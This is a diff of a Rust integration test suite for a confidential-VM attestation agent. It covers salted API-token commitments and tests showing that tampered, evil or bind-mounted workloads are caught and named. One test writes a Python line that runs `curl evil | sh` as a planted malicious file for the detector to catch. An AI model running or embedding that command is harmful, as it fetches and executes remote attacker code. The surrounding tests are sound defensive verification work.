@@ -4,8 +4,10 @@
 use cvm_agent::config::Config;
 use cvm_agent::{Agent, StartKind};
 use cvm_attestation::evidence::{Cloud, Platform, Tee};
-use cvm_attestation::golden::{GoldenMeasurement, GoldenWorkload};
-use cvm_attestation::workload::{archived_images, WorkloadFolder, WorkloadLog};
+use cvm_attestation::golden::{AllowedWorkload, GoldenMeasurement, GoldenWorkload};
+use cvm_attestation::workload::{
+    archived_images, EventKind, TokenCommitment, WorkloadEvent, WorkloadFolder, WorkloadLog,
+};
 use cvm_attestation::{encoding::encode_base64, Sha256Digest};
 use cvm_attester::NoTee;
 use serde_json::json;
@@ -39,8 +41,9 @@ fn write_workload(dir: &Path, message: &str) {
     std::fs::write(dir.join("hello.tar"), archive.bytes).unwrap();
 }
 
-/// What PCR 23 must hold, computed offline from the folder alone.
-fn offline_events(dir: &Path) -> Vec<cvm_attestation::workload::WorkloadEvent> {
+/// What PCR 23 must hold, computed offline from the folder, the token and the salt the agent
+/// published in its api-token event.
+fn offline_events(dir: &Path, salt: [u8; 32]) -> Vec<WorkloadEvent> {
     let archive = std::fs::File::open(dir.join("hello.tar")).unwrap();
     let ids: BTreeMap<String, String> = archived_images(archive)
         .unwrap()
@@ -54,8 +57,14 @@ fn offline_events(dir: &Path) -> Vec<cvm_attestation::workload::WorkloadEvent> {
         .collect();
     WorkloadFolder::read(dir)
         .unwrap()
-        .events(&ids, Some(Sha256Digest::of(TOKEN.as_bytes())))
+        .events(&ids, Some(&TokenCommitment::new(salt, TOKEN)))
         .unwrap()
+}
+
+/// The salt of the agent's api-token events (one per boot, public in its log).
+async fn token_salt(agent: &Agent) -> [u8; 32] {
+    let log = agent.state.workloads.measured().await.log;
+    TokenCommitment::first_salt(&log.events).expect("a salted api-token event")
 }
 
 impl TestVm {
@@ -123,42 +132,73 @@ impl TestVm {
         self.agent().state.tpm.read_pcr23().await.unwrap()
     }
 
-    /// Fetches evidence over a fresh nonce and verifies it through the agent's /offchain-verify.
-    async fn verify_against(
-        &self,
-        events: Vec<cvm_attestation::workload::WorkloadEvent>,
-    ) -> serde_json::Value {
-        let nonce = hex::encode(rand_nonce());
-        let (status, evidence) =
-            get_json(self.agent().external_addr, &format!("/collaterals/{nonce}"))
-                .await
-                .unwrap();
-        assert_eq!(status, 200, "{evidence}");
-        let golden = GoldenMeasurement {
-            version: 1,
-            platform: None,
-            pcrs: BTreeMap::new(),
-            workload: Some(GoldenWorkload {
-                events,
-                allow_updates: true,
-            }),
-            snp: None,
-            tdx: None,
-        };
-        let body = json!({
-            // The predecessor sent JSON strings; objects work too.
-            "collaterals": evidence.to_string(),
-            "golden_measurement": golden,
-            "nonce": nonce,
-            "trusted_ak": encode_base64(self.agent().state.tpm.ak_public()),
-        });
-        let response = post_json(self.agent().local_addr, "/offchain-verify", &body)
-            .await
-            .unwrap();
-        assert_eq!(response.status, 200, "{}", response.text());
-        response.json().unwrap()
+    /// The folder's events as the agent must have measured them (same token, same salt).
+    async fn offline_events(&self, dir: &Path) -> Vec<WorkloadEvent> {
+        offline_events(dir, token_salt(self.agent()).await)
     }
 
+    /// Fetches evidence over a fresh nonce and verifies it through the agent's /offchain-verify
+    /// against `events` (the same workload measured again after boot is accepted).
+    async fn verify_against(&self, events: Vec<WorkloadEvent>) -> serde_json::Value {
+        let golden = GoldenWorkload {
+            allow_updates: true,
+            ..GoldenWorkload::new(events)
+        };
+        offchain_verify(self.agent(), golden).await
+    }
+}
+
+/// Fetches evidence from `agent` over a fresh nonce and verifies it through its
+/// /offchain-verify against `workload` (the predecessor's JSON-string form for the evidence).
+async fn offchain_verify(agent: &Agent, workload: GoldenWorkload) -> serde_json::Value {
+    let nonce = hex::encode(rand_nonce());
+    let (status, evidence) = get_json(agent.external_addr, &format!("/collaterals/{nonce}"))
+        .await
+        .unwrap();
+    assert_eq!(status, 200, "{evidence}");
+    let parsed = cvm_attestation::Evidence::from_json(evidence.to_string().as_bytes()).unwrap();
+    let golden = golden_for(&parsed, &workload);
+    let body = json!({
+        "collaterals": evidence.to_string(),
+        "golden_measurement": golden,
+        "nonce": nonce,
+        "trusted_ak": encode_base64(agent.state.tpm.ak_public()),
+    });
+    let response = post_json(agent.local_addr, "/offchain-verify", &body)
+        .await
+        .unwrap();
+    assert_eq!(response.status, 200, "{}", response.text());
+    response.json().unwrap()
+}
+
+/// A golden document for `workload` that also pins the boot chain, as verification requires:
+/// PCR 4 and 11 as this VM stand-in's own swtpm quotes them (nothing boots on it). The workload
+/// is what these tests are about.
+fn golden_for(
+    evidence: &cvm_attestation::Evidence,
+    workload: &GoldenWorkload,
+) -> serde_json::Value {
+    let pcr = |index: u8| {
+        let value = evidence.tpm.pcrs.pcrs.get(&index).expect("quoted PCR");
+        json!({"sha256": hex::encode(value.as_slice()), "source": "observed"})
+    };
+    json!({"version": 1, "pcrs": {"4": pcr(4), "11": pcr(11)}, "workload": workload})
+}
+
+/// The named check of an /offchain-verify answer, as (status, reason).
+fn check<'a>(answer: &'a serde_json::Value, name: &str) -> (&'a str, &'a str) {
+    let checks = answer["report"]["checks"].as_array().expect("a report");
+    let check = checks
+        .iter()
+        .find(|c| c["name"] == name)
+        .unwrap_or_else(|| panic!("no check {name}: {answer:#}"));
+    (
+        check["status"].as_str().unwrap_or_default(),
+        check["reason"].as_str().unwrap_or_default(),
+    )
+}
+
+impl TestVm {
     async fn container_log(&self) -> String {
         let response = request(
             self.agent().external_addr,
@@ -242,7 +282,7 @@ fn zip_folder(dir: &Path) -> Vec<u8> {
 
 async fn measures_runs_and_attests(kind: EngineKind) {
     let vm = TestVm::boot(kind, "first message\n").await;
-    let expected = offline_events(&vm.workload_dir());
+    let expected = vm.offline_events(&vm.workload_dir()).await;
     assert_eq!(
         hex::encode(vm.pcr23().await),
         cvm_attestation::workload::replay(&expected).to_hex()
@@ -257,7 +297,7 @@ async fn measures_runs_and_attests(kind: EngineKind) {
     // A changed config file: another PCR 23, and the golden comparison fails by name.
     let other = tempfile::tempdir().unwrap();
     write_workload(other.path(), "another message\n");
-    let changed = offline_events(other.path());
+    let changed = vm.offline_events(other.path()).await;
     assert_ne!(
         cvm_attestation::workload::replay(&changed),
         cvm_attestation::workload::replay(&expected)
@@ -363,9 +403,22 @@ async fn updates_are_measured_and_bad_uploads_leave_the_workload_running() {
         .await
         .unwrap();
     let log: WorkloadLog = serde_json::from_value(log).unwrap();
-    assert_eq!(log.generations().unwrap().len(), 2);
+    let generations = log.generations().unwrap();
+    assert_eq!(generations.len(), 2);
     assert_eq!(log.replay().0, vm.pcr23().await);
-    let answer = vm.verify_against(offline_events(new_dir.path())).await;
+    // The old form (`allow_updates`) accepts only the same workload again: the first
+    // generation must be allowed by name now.
+    let new_events = vm.offline_events(new_dir.path()).await;
+    let answer = vm.verify_against(new_events.clone()).await;
+    assert_eq!(answer["success"], false, "{answer:#}");
+    assert!(check(&answer, "workload.updates")
+        .1
+        .contains("generation 1 of 2"));
+    let golden = GoldenWorkload {
+        allowed: vec![AllowedWorkload::Events(generations[0].to_vec())],
+        ..GoldenWorkload::new(new_events)
+    };
+    let answer = offchain_verify(vm.agent(), golden).await;
     assert_eq!(answer["success"], true, "{answer:#}");
 }
 
@@ -380,7 +433,9 @@ async fn restarting_the_agent_does_not_extend_again() {
     let (_, log) = get_json(vm.agent().local_addr, "/eventlog").await.unwrap();
     let log: WorkloadLog = serde_json::from_value(log).unwrap();
     assert_eq!(log.replay().0, before);
-    let answer = vm.verify_against(offline_events(&vm.workload_dir())).await;
+    let answer = vm
+        .verify_against(vm.offline_events(&vm.workload_dir()).await)
+        .await;
     assert_eq!(answer["success"], true, "{answer:#}");
 }
 
@@ -529,7 +584,7 @@ async fn measure_only_agent_needs_no_engine() {
     })
     .await;
     let (agent, dir) = (&vm.agent, &vm.dir);
-    let expected = offline_events(&dir.path().join("workload"));
+    let expected = offline_events(&dir.path().join("workload"), token_salt(agent).await);
     let pcr = agent.state.tpm.read_pcr23().await.unwrap();
     assert_eq!(
         hex::encode(pcr),
@@ -592,7 +647,7 @@ async fn snp_evidence_verifies_through_offchain_verify_with_a_named_test_root() 
     let golden = json!({
         "version": 1,
         "platform": {"cloud": "gcp", "tee": "sev-snp"},
-        "workload": {"events": offline_events(&dir.path().join("workload"))},
+        "workload": {"events": offline_events(&dir.path().join("workload"), token_salt(&agent).await)},
         "snp": {"measurements": [hex::encode(measurement)]},
     });
     let body = json!({ "collaterals": evidence, "golden_measurement": golden, "nonce": nonce });
@@ -629,13 +684,12 @@ async fn the_external_tls_key_is_bound_into_evidence() {
     assert_eq!(evidence.tls_key(), Some(peer_key));
     assert_eq!(agent.state.tls_key, Some(peer_key));
 
-    let golden = GoldenMeasurement {
-        workload: Some(GoldenWorkload {
-            events: offline_events(&dir.path().join("workload")),
-            allow_updates: false,
-        }),
-        ..serde_json::from_value(json!({"version": 1})).unwrap()
-    };
+    let workload = GoldenWorkload::new(offline_events(
+        &dir.path().join("workload"),
+        token_salt(agent).await,
+    ));
+    let golden: GoldenMeasurement =
+        serde_json::from_value(golden_for(&evidence, &workload)).unwrap();
     let mut options = cvm_attestation::VerifyOptions::now().with_nonce(nonce.to_vec());
     options.trusted_ak = Some(evidence.tpm.ak_pub.as_slice().to_vec());
     options.expected_tls_key = Some(peer_key);
@@ -685,4 +739,227 @@ fn tls_get(addr: std::net::SocketAddr, path: &str) -> ([u8; 32], Vec<u8>) {
     let at = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
     assert!(response.starts_with(b"HTTP/1.0 200") || response.starts_with(b"HTTP/1.1 200"));
     (sha2::Sha256::digest(&spki).into(), response[at..].to_vec())
+}
+
+/// Random hex, so every run measures data no earlier run saw.
+fn fresh(label: &str) -> String {
+    format!("{label} {}\n", hex::encode(rand_nonce()))
+}
+
+/// `POST /update-workload` with the token and a zip of `dir`.
+async fn upload_folder(agent: &Agent, dir: &Path) -> test_support::http::HttpResponse {
+    let (content_type, body) = multipart_file("file", "workload.zip", &zip_folder(dir));
+    request(
+        agent.external_addr,
+        "POST",
+        "/update-workload",
+        &[
+            ("Authorization", &format!("Bearer {TOKEN}")),
+            ("Content-Type", &content_type),
+        ],
+        &body,
+    )
+    .await
+    .unwrap()
+}
+
+/// Copies a workload folder (regular files and directories only).
+fn copy_folder(from: &Path, to: &Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for entry in std::fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        if entry.file_type().unwrap().is_dir() {
+            copy_folder(&entry.path(), &to.join(entry.file_name()));
+        } else {
+            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
+        }
+    }
+}
+
+/// Attack: upload something evil, then the golden workload again. The running workload is the
+/// golden one, but the golden allows neither the evil generation nor (in the old form) updates
+/// to another workload: `workload.updates` fails and names the generation.
+#[tokio::test]
+async fn an_evil_generation_between_golden_ones_fails_by_index() {
+    let golden_message = fresh("golden");
+    let vm = MeasureOnly::start(&golden_message, |config| config).await;
+    let agent = &vm.agent;
+    let workload = vm.dir.path().join("workload");
+    let golden_copy = vm.dir.path().join("golden-copy");
+    copy_folder(&workload, &golden_copy);
+    let golden_events = offline_events(&workload, token_salt(agent).await);
+    let evil = vm.dir.path().join("evil");
+    copy_folder(&workload, &evil);
+    std::fs::write(evil.join("config/message.txt"), fresh("evil")).unwrap();
+
+    for dir in [&evil, &golden_copy] {
+        let response = upload_folder(agent, dir).await;
+        assert_eq!(response.status, 200, "{}", response.text());
+    }
+    let log = agent.state.workloads.measured().await.log;
+    assert_eq!(log.generations().unwrap().len(), 3);
+
+    // The old document form: `allow_updates: true` means the golden's own events, every time.
+    let old = GoldenWorkload {
+        allow_updates: true,
+        ..GoldenWorkload::new(golden_events.clone())
+    };
+    let answer = offchain_verify(agent, old).await;
+    assert_eq!(
+        check(&answer, "workload.measurement").0,
+        "pass",
+        "{answer:#}"
+    );
+    let (status, reason) = check(&answer, "workload.updates");
+    assert_eq!(status, "fail", "{answer:#}");
+    assert!(reason.contains("generation 2 of 3"), "{reason}");
+    assert!(
+        reason.contains("config-file \"config/message.txt\" changed"),
+        "{reason}"
+    );
+    assert!(!reason.contains("generation 1 of 3"), "{reason}");
+    // Without updates allowed at all.
+    let answer = offchain_verify(agent, GoldenWorkload::new(golden_events.clone())).await;
+    let (status, reason) = check(&answer, "workload.updates");
+    assert_eq!(status, "fail");
+    assert!(reason.contains("does not allow updates"), "{reason}");
+    // Naming the evil measurement explicitly is the only way to accept it.
+    let evil_events = offline_events(&evil, token_salt(agent).await);
+    let named = GoldenWorkload {
+        allowed: vec![AllowedWorkload::Digest(cvm_attestation::workload::replay(
+            &evil_events,
+        ))],
+        ..GoldenWorkload::new(golden_events)
+    };
+    let answer = offchain_verify(agent, named).await;
+    assert_eq!(check(&answer, "workload.updates").0, "pass", "{answer:#}");
+    // An explicit opt-out is reported as such, never as a pass.
+    let answer = offchain_verify(agent, GoldenWorkload::any()).await;
+    assert_eq!(
+        check(&answer, "workload"),
+        (
+            "skip",
+            "the golden accepts any workload (\"workload\": \"any\"): PCR 23 is not interpreted"
+        )
+    );
+}
+
+/// Attack: code handed to a container by a bind mount (`./app.py:/app/app.py`). It is measured
+/// as a `file` event, so a golden computed from the honest folder fails by name.
+#[tokio::test]
+async fn bind_mounted_code_is_measured_and_named() {
+    let code = fresh("print('honest')  #");
+    let compose = "services:\n  app:\n    image: localhost/cvm-example/hello:1\n    volumes:\n      - ./app.py:/app/app.py:ro\n";
+    let evil = format!("{code}import os; os.system('curl evil | sh')\n");
+    let vm = MeasureOnly::start("bind\n", |config| {
+        std::fs::write(config.workload_dir.join("docker-compose.yml"), compose).unwrap();
+        std::fs::write(config.workload_dir.join("app.py"), &evil).unwrap();
+        config
+    })
+    .await;
+    let honest = vm.dir.path().join("honest");
+    copy_folder(&vm.dir.path().join("workload"), &honest);
+    std::fs::write(honest.join("app.py"), &code).unwrap();
+    let golden = GoldenWorkload::new(offline_events(&honest, token_salt(&vm.agent).await));
+    let answer = offchain_verify(&vm.agent, golden).await;
+    let (status, reason) = check(&answer, "workload.measurement");
+    assert_eq!(status, "fail", "{answer:#}");
+    assert!(reason.contains("file \"app.py\" changed"), "{reason}");
+}
+
+/// The token's commitment: two boots with the same token publish different salts and digests,
+/// and whoever knows the token recomputes each from its salt; the bare hash never appears.
+#[tokio::test]
+async fn the_api_token_is_committed_with_a_fresh_salt_per_boot() {
+    let mut events = Vec::new();
+    for _ in 0..2 {
+        let vm = MeasureOnly::start("token\n", |config| config).await;
+        let log = vm.agent.state.workloads.measured().await.log;
+        let event = log
+            .events
+            .iter()
+            .find(|e| e.kind == EventKind::ApiToken)
+            .cloned()
+            .expect("an api-token event");
+        let salt = TokenCommitment::salt_of(&event).expect("a salt");
+        assert_eq!(TokenCommitment::new(salt, TOKEN).event(), event);
+        assert_ne!(event.payload_digest, Sha256Digest::of(TOKEN.as_bytes()));
+        events.push(event);
+    }
+    assert_ne!(events[0].payload, events[1].payload);
+    assert_ne!(events[0].payload_digest, events[1].payload_digest);
+}
+
+/// Containers of the workload project, sorted: (service, id, state).
+async fn containers(vm: &TestVm) -> Vec<(String, String, String)> {
+    let engine = vm.agent().state.workloads.engine().unwrap();
+    let mut list = engine
+        .project_containers(cvm_agent::workload::PROJECT)
+        .await
+        .unwrap();
+    list.sort();
+    list
+}
+
+/// Attack: change the workload folder behind the agent's back, then make it start again. The
+/// agent measures the folder again right before `compose up`, refuses, names the difference,
+/// and leaves the running containers, PCR 23 and the log as they were.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_workload_changed_behind_the_agents_back_is_not_started() {
+    let mut vm = TestVm::boot(EngineKind::Docker, &fresh("measured")).await;
+    wait_for_log(&vm, "measured").await;
+    let before = containers(&vm).await;
+    assert!(
+        before.iter().all(|(_, _, state)| state == "running"),
+        "{before:?}"
+    );
+    let pcr = vm.pcr23().await;
+    let log = vm.agent().state.workloads.measured().await.log;
+    let env_file = vm.workload_dir().join("app.env");
+    let original = std::fs::read(&env_file).unwrap();
+
+    // An env file changes what the container gets: compose up would recreate it.
+    let tampered = [
+        original.clone(),
+        fresh("EVIL=").replace(' ', "").into_bytes(),
+    ]
+    .concat();
+    let evil_file = vm.workload_dir().join("evil.py");
+    let tampers: [(&dyn Fn(), &str); 2] = [
+        (
+            &|| std::fs::write(&env_file, &tampered).unwrap(),
+            "env-file \"app.env\" changed",
+        ),
+        (
+            &|| {
+                std::fs::write(&env_file, &original).unwrap();
+                std::fs::write(&evil_file, "import os\n").unwrap();
+            },
+            "file \"evil.py\" is not in the golden measurement",
+        ),
+    ];
+    for (tamper, named) in tampers {
+        drop(vm.agent.take());
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        tamper();
+        assert_eq!(vm.start_agent().await, StartKind::Restored);
+        let refused = vm.agent().state.workloads.refused().await;
+        let refused = refused.expect("the changed folder was started");
+        assert!(refused.contains(named), "{refused}");
+        assert!(
+            refused.contains("not the workload last measured"),
+            "{refused}"
+        );
+        assert_eq!(containers(&vm).await, before, "the containers were touched");
+        assert_eq!(vm.pcr23().await, pcr);
+        assert_eq!(vm.agent().state.workloads.measured().await.log, log);
+    }
+
+    // Put back exactly as measured: it starts again.
+    std::fs::remove_file(&evil_file).unwrap();
+    drop(vm.agent.take());
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(vm.start_agent().await, StartKind::Restored);
+    assert_eq!(vm.agent().state.workloads.refused().await, None);
+    assert_eq!(containers(&vm).await, before);
 }
